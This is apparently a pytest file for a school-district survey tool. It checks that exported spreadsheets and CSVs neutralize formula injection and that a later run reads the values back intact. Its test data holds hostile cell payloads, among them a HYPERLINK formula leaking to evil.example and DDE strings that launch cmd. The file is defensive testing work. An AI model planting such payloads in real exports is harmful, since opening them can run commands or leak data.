"""No formulas in what a run exports: department names, owners and texts that start like a
formula stay text in the xlsx (no formula cell, quote prefix) and are neutralized in every CSV
(OWASP: a leading ' before = + - @ tab CR), and a later run reads them back as they were."""

from __future__ import annotations

import csv
import io

import numpy as np
import openpyxl
import pandas as pd
import pytest
import yaml
from typer.testing import CliRunner

from districtsurvey.cli import app
from districtsurvey.contracts.files import restore_csv, safe_csv
from support import write_params

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak","Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Plain Department",
]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _responses() -> pd.DataFrame:
    from districtsurvey.contracts.instrument import load_instrument

    items = load_instrument("engagement").item_ids
    rng = np.random.default_rng(7)
    rows = []
    for d, dept in enumerate(HOSTILE):
        for r in range(14):
            for i, item in enumerate(items):
                value = int(rng.choice([1, 2, 3, 4, 5], p=[0.2, 0.3, 0.2, 0.2, 0.1] if i % 3 == 0
                                       else [0.05, 0.05, 0.1, 0.4, 0.4]))  # fmt: skip
                rows.append((f"p{d}-{r}", "engagement", "2026-fall", dept, "Teacher",
                             f"=Site {d}", item, value))  # fmt: skip
    cols = ["respondent_id", "survey", "wave", "department", "role", "site", "item", "value"]
    return pd.DataFrame(rows, columns=cols)


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    from districtsurvey.batch.publish import publish_extras
    from districtsurvey.prepare.run import prepare

    folder = tmp_path_factory.mktemp("hostile")
    data = folder / "responses.parquet"
    _responses().to_parquet(data, index=False)
    params = write_params(folder, instrument="engagement", data=str(data), compare_to=None)
    spec = yaml.safe_load(params.read_text(encoding="utf-8"))
    for key in ("comments", "headcounts", "compare_to"):
        spec.pop(key)
    params.write_text(yaml.safe_dump(spec), encoding="utf-8")
    run_dir = prepare(params)
    publish_extras(run_dir)
    return run_dir


def _csv_cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_xlsx_has_no_formula_and_keeps_the_text(hostile_run):
    books = sorted((hostile_run / "action_plans").glob("*.xlsx"))
    assert len(books) == len(HOSTILE)
    seen = set()
    for path in books:
        wb = openpyxl.load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and cell.value.startswith(STARTS):
                        assert cell.quotePrefix, (path.name, cell.coordinate, cell.value)
                        seen.add(cell.value)
        # the raw sheet XML holds no <f> (formula) element either
        import zipfile

        with zipfile.ZipFile(path) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    assert any(v.startswith("=HYPERLINK") for v in seen)  # the text is kept, as text
    assert any(v.startswith("@SUM") for v in seen)


def test_every_exported_csv_is_neutralized(hostile_run):
    paths = [*sorted((hostile_run / "action_plans").glob("*.csv")), hostile_run / "focus_areas.csv"]
    cells = [c for p in paths for c in _csv_cells(p)]
    assert any("HYPERLINK" in c for c in cells)  # the hostile names are in the files
    bad = [c for c in cells if c.startswith(STARTS)]
    assert not bad, bad[:5]
    assert '\'=HYPERLINK("http://evil.example/?leak","Click")' in cells


def test_score_csv_is_neutralized(tmp_path):
    path = tmp_path / "r.parquet"
    _responses().to_parquet(path, index=False)
    out = tmp_path / "scores.csv"
    res = CliRunner().invoke(
        app, ["score", str(path), "--instrument", "engagement", "--by", "department,site",
              "-o", str(out)],
    )  # fmt: skip
    assert res.exit_code == 0, res.output
    cells = _csv_cells(out)
    assert not [c for c in cells if c.startswith(STARTS) and not _number(c)]
    assert "'=Site 0" in cells and "'+cmd|' /C calc'!A0" in cells


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_next_run_reads_the_focus_areas_back_as_they_were(hostile_run, tmp_path):
    from districtsurvey.prepare.run import prepare

    spec = yaml.safe_load((hostile_run.parent / "params.yml").read_text(encoding="utf-8"))
    spec.update(output=str(tmp_path / "next"), previous_run=str(hostile_run))
    (tmp_path / "params.yml").write_text(yaml.safe_dump(spec), encoding="utf-8")
    nxt = prepare(tmp_path / "params.yml")
    previous = pd.read_parquet(nxt / "cache" / "previous_focus.parquet")
    # the names come back exactly as the departments are named (not with the CSV's quote)
    assert set(previous["department"]) - {"District"} <= set(HOSTILE)
    assert set(previous["department"]) & set(HOSTILE[:4])
    follow = pd.read_parquet(nxt / "cache" / "follow_up.parquet")
    assert follow["pct_favorable"].notna().any()


@pytest.mark.parametrize(
    "value", ["=1+1", "+1", "-x", "@a", "\tx", "'=x", "''@y", "ok", "'quoted", "", "＝1"]
)
def test_safe_csv_round_trip(value):  # (a lone CR inside a cell: see test_neutralize_cr)
    df = pd.DataFrame({"a": [value]})
    text = safe_csv(df).to_csv(index=False)
    back = pd.read_csv(io.StringIO(text), keep_default_na=False, dtype=str)
    assert restore_csv(back)["a"].iloc[0] == value
    assert not back["a"].iloc[0].startswith(("=", "+", "-", "@", "\t", "\r", "＝"))


def test_neutralize_cr():
    from districtsurvey.contracts.files import neutralize, restore

    assert neutralize("\rx") == "'\rx" and restore("'\rx") == "\rx"
